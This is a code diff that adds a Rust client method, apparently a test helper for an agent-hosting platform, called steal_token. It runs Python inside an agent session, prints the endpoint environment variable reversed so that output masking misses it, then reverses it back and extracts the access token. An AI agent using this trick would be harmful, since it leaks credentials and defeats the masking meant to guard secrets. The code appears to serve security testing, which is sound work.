@@ -178,6 +178,14 @@ impl Client {
         serde_json::from_str(&self.run(agent, "python", code).await).unwrap()
     }
 
+    /// The agent's token, as somebody who can run code in it takes it away: printed as no masking recognises it.
+    pub async fn steal_token(&self, agent: &str) -> String {
+        let printed = self.run(agent, "python", "import os; print(os.environ['THEAZO_ENDPOINT'][::-1])").await;
+        let endpoint: String = printed.trim().chars().rev().collect();
+        let (_, token) = endpoint.split_once("/a/").expect("the address has the token");
+        token.to_owned()
+    }
+
     /// Ends a session and everything in it.
     pub async fn terminate(&self, session: &str) {
         self.call("POST", &format!("/v1/sessions/{session}/terminate"), None).await.expect(200);
